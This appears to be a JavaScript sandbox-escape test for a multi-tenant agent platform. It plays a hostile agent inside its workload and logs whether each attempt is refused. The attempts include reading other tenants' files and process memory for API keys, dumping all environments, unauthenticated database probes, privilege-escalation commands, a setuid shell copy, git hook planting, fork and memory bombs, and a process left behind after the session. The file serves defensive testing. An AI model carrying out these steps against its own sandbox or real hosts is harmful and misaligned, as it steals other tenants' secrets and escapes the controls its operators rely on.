// What a hostile agent tries, run by its own shell inside its workload: `node hostile.mjs <targets.json>`. Prints one JSON line for
// each attempt: `refused`, or `succeeded` with what it got. It never stops at an error: an error is what it should get.
import { spawn, spawnSync } from "node:child_process";
import {
  chmodSync,
  chownSync,
  linkSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  readSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { connect } from "node:net";
import { dirname, join, resolve } from "node:path";

const targets = JSON.parse(readFileSync(process.argv[2], "utf8"));
const say = (name, outcome, detail = "") =>
  process.stdout.write(`${JSON.stringify({ name, outcome, detail: String(detail).slice(0, 300) })}\n`);

async function attempt(name, use) {
  try {
    const got = await Promise.race([use(), new Promise((resolve) => setTimeout(resolve, 8000, null))]);
    say(name, got ? "succeeded" : "refused", got === true ? "" : (got ?? ""));
  } catch (error) {
    say(name, "refused", error.code ?? error.message);
  }
}
const sh = (command, timeout = 10_000) => {
  const { status, stdout } = spawnSync("bash", ["-c", command], {
    encoding: "utf8",
    timeout,
    stdio: ["ignore", "pipe", "ignore"],
  });
  return status === 0 ? stdout.trim() || true : false;
};
const canRead = (path) => {
  const found = statSync(path);
  return found.isDirectory() ? readdirSync(path).length > 0 : readFileSync(path).length > 0;
};

const { victim, engine } = targets;
for (const [what, path] of Object.entries(victim.paths)) {
  await attempt(`read another tenant's ${what}`, () => canRead(path));
  await attempt(`write another tenant's ${what}`, () => {
    writeFileSync(join(path, "planted"), "x");
    return true;
  });
}
await attempt("list the tenants", () => readdirSync(join(targets.dataDir, "tenants")).includes(victim.tenantId));
for (const path of targets.files) {
  await attempt(`read ${path.replace(targets.dataDir, "{data}")}`, () => canRead(path));
}
for (const part of ["environ", "cmdline", "maps", "root", "cwd", "fd"]) {
  await attempt(`engine's /proc ${part}`, () => {
    const isEngine = readFileSync(`/proc/${engine.pid}/cmdline`, "utf8").includes("apps/engine");
    return isEngine && canRead(`/proc/${engine.pid}/${part}`);
  });
}
await attempt("see the engine's or another run's processes", () =>
  readdirSync("/proc").some((pid) => {
    try {
      const line = readFileSync(`/proc/${pid}/cmdline`, "utf8");
      return /^\d+$/.test(pid) && (line.includes("apps/engine/src/main.ts") || line.includes(victim.runId));
    } catch {
      return false;
    }
  }),
);
await attempt("kill the engine", () => {
  const isEngine = readFileSync(`/proc/${engine.pid}/cmdline`, "utf8").includes("apps/engine");
  return isEngine && process.kill(engine.pid, "SIGKILL");
});
// The test looks into this file for secrets.
await attempt("write down every environment and command line there is", () => {
  const all = readdirSync("/proc").filter((pid) => /^\d+$/.test(pid));
  const texts = all.flatMap((pid) =>
    ["environ", "cmdline"].flatMap((part) => {
      try {
        return [readFileSync(`/proc/${pid}/${part}`, "utf8")];
      } catch {
        return [];
      }
    }),
  );
  writeFileSync("dump.txt", [JSON.stringify(process.env), ...texts].join("\n"));
  return false;
});
await attempt("find a provider's key in the runtime's memory", () => {
  for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid)) {
    let ranges;
    let file;
    try {
      ranges = readFileSync(`/proc/${pid}/maps`, "utf8").matchAll(/^(\w+)-(\w+) rw/gm);
      file = openSync(`/proc/${pid}/mem`, "r");
    } catch {
      continue;
    }
    for (const [, from, to] of ranges) {
      const [start, end] = [BigInt(`0x${from}`), BigInt(`0x${to}`)];
      for (let at = start; at < end && at - start < 200_000_000n; at += 4_194_304n) {
        const chunk = Buffer.alloc(Number(end - at < 4_194_304n ? end - at : 4_194_304n));
        try {
          readSync(file, chunk, 0, chunk.length, at);
        } catch {
          break;
        }
        // Put together here, so that this program does not find itself.
        if (chunk.includes(targets.secretParts.join(""))) {
          return `in process ${pid}`;
        }
      }
    }
  }
  return false;
});

/** What a server says to the bytes, or null when nobody listens. */
const ask = (host, port, bytes) =>
  new Promise((resolve) => {
    const socket = connect({ host, port });
    const got = [];
    const end = () => {
      socket.destroy();
      resolve(got.length === 0 ? null : Buffer.concat(got));
    };
    socket.on("connect", () => socket.write(bytes));
    socket.on("data", (chunk) => got.push(chunk));
    socket.on("error", end);
    socket.on("close", end);
    setTimeout(end, 1500);
  });
const startup = () => {
  const body = Buffer.from(`\0\x03\0\0user\0djinnbot_system\0database\0${targets.postgres.database}\0\0`, "latin1");
  const length = Buffer.alloc(4);
  length.writeInt32BE(body.length + 4);
  return Buffer.concat([length, body]);
};
for (const host of targets.hosts) {
  await attempt(`Postgres at ${host} without a password`, async () => {
    const said = await ask(host, targets.postgres.port, startup());
    // R with 0: signed in. Anything else asks for a password or refuses.
    return said !== null && said[0] === 0x52 && said.readInt32BE(5) === 0 && "signed in";
  });
  await attempt(`Redis at ${host} without a password`, async () => {
    const said = await ask(host, targets.redis.port, "KEYS *\r\n");
    return said !== null && !/^-(NOAUTH|NOPERM|ERR)/.test(said.toString()) && said.toString();
  });
  await attempt(`engine's port for operators at ${host}`, async () => {
    const said = await ask(host, engine.port, "GET /metrics HTTP/1.0\r\n\r\n");
    return said?.toString().includes(" 200 ") && "metrics";
  });
  await attempt(`another tenant's run at the API of ${host} without a key`, async () => {
    const request = `GET /v1/runs/${victim.runId} HTTP/1.0\r\nHost: ${host}\r\n\r\n`;
    const said = await ask(host, targets.api.port, request);
    return said?.toString().includes(" 200 ") && said.toString();
  });
}
for (const path of [
  "/var/run/docker.sock",
  "/run/docker.sock",
  "/var/run/postgresql",
  "/run/systemd/private",
  "/run/containerd/containerd.sock",
]) {
  await attempt(`socket ${path}`, () => statSync(path) && true);
}

const privileges = {
  "mount a file system": "mount -t tmpfs none /mnt || mount -t proc none /mnt",
  "make namespaces": "unshare -Ur true",
  "enter the namespaces of process 1": "nsenter -t 1 -m true",
  "become root": "su -c true || sudo -n true",
  "make a device": "mknod disk b 8 0",
  "change the host's name": "echo pwned > /proc/sys/kernel/hostname || hostname pwned",
  "change the kernel's settings": "echo 1 > /proc/sys/kernel/sysrq || echo x > /proc/sys/kernel/core_pattern",
  "trigger sysrq": "echo h > /proc/sysrq-trigger",
  "write /sys":
    "echo 1 > /sys/kernel/mm/ksm/run || echo x > /sys/fs/cgroup/cgroup.procs || echo $$ > /sys/fs/cgroup/pids/cgroup.procs",
  "write system programs":
    "echo x >> /usr/bin/env || touch /usr/pwned || touch /etc/pwned || touch /opt/djinnbot/pwned",
  "read the kernel's log": "dmesg | grep .",
  "load a module": "modprobe dummy",
  "open a raw socket": "python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'",
};
for (const [name, command] of Object.entries(privileges)) {
  await attempt(name, () => sh(command));
}
await attempt("run as root by a set-uid copy", () => {
  writeFileSync("own-sh", readFileSync("/bin/bash"));
  chownSync("own-sh", 0, 0);
  chmodSync("own-sh", 0o4755);
  const { stdout } = spawnSync(resolve("own-sh"), ["-pc", "grep CapEff /proc/self/status"], { encoding: "utf8" });
  return /CapEff:\s*0*[1-9a-f]/.test(stdout) && stdout;
});

// Left in the working copy for whoever looks at it from outside.
const secretFile = victim.paths.workspace && join(victim.paths.workspace, "secret.txt");
for (const [name, path] of [
  ["link-file", secretFile],
  ["link-dir", dirname(secretFile)],
  ["link-root", "/"],
  ["link-env", `/proc/${engine.pid}/environ`],
]) {
  await attempt(`follow a link to ${name}`, () => {
    symlinkSync(path, name);
    return name !== "link-root" && canRead(name);
  });
}
await attempt("make a hard link to another tenant's file", () => {
  linkSync(secretFile, "hard");
  return true;
});
await attempt("plant hooks and configuration for whoever uses this repository", () => {
  mkdirSync(".git/hooks", { recursive: true });
  for (const hook of [
    "pre-commit",
    "post-commit",
    "post-checkout",
    "post-merge",
    "pre-push",
    "reference-transaction",
  ]) {
    writeFileSync(join(".git/hooks", hook), `#!/bin/sh\ntouch '${targets.outside}'\n`, { mode: 0o755 });
  }
  const config = {
    "core.fsmonitor": `touch '${targets.outside}'`,
    "core.sshCommand": `touch '${targets.outside}'`,
    "diff.external": `touch '${targets.outside}'`,
  };
  for (const [key, value] of Object.entries(config)) {
    sh(`git config ${key} "${value}"`);
  }
  return false;
});

await attempt("fork without end", async () => {
  const children = [];
  for (let n = 0; n < targets.bombs.forks; n += 1) {
    const child = spawn("sleep", ["30"], { stdio: "ignore", detached: true });
    child.on("error", () => undefined);
    children.push(child);
  }
  await new Promise((resolve) => setTimeout(resolve, 500));
  const alive = children.filter(({ pid }) => pid !== undefined);
  const gone = alive.map((child) => new Promise((resolve) => child.once("exit", resolve)));
  for (const child of alive) {
    child.kill("SIGKILL");
  }
  await Promise.all(gone);
  return alive.length >= targets.bombs.forks ? `${alive.length} processes` : false;
});
await attempt("take memory without end", () => {
  const eat = `const kept = []; for (let n = 0; n < ${targets.bombs.memoryMb / 10}; n++) kept.push(Buffer.alloc(10485760, 1)); console.log("took", kept.length)`;
  const { stdout } = spawnSync(process.execPath, ["-e", eat], { encoding: "utf8", timeout: 20_000 });
  return /took/.test(stdout ?? "") && stdout;
});
for (const place of [".", "/tmp"]) {
  await attempt(`write a file without end into ${place}`, () => {
    const file = join(place, "endless");
    sh(`head -c ${targets.bombs.fileBytes} /dev/zero > ${file}`, 20_000);
    const { size } = statSync(file);
    sh(`rm -f ${file}`);
    return size >= targets.bombs.fileBytes ? `${size} bytes` : false;
  });
}
await attempt("leave a process behind", () => {
  spawn("bash", ["-c", `setsid bash -c 'trap "" TERM HUP; while :; do sleep 1; done' ${targets.marker} & disown -a`], {
    detached: true,
    stdio: "ignore",
  }).unref();
  return false;
});
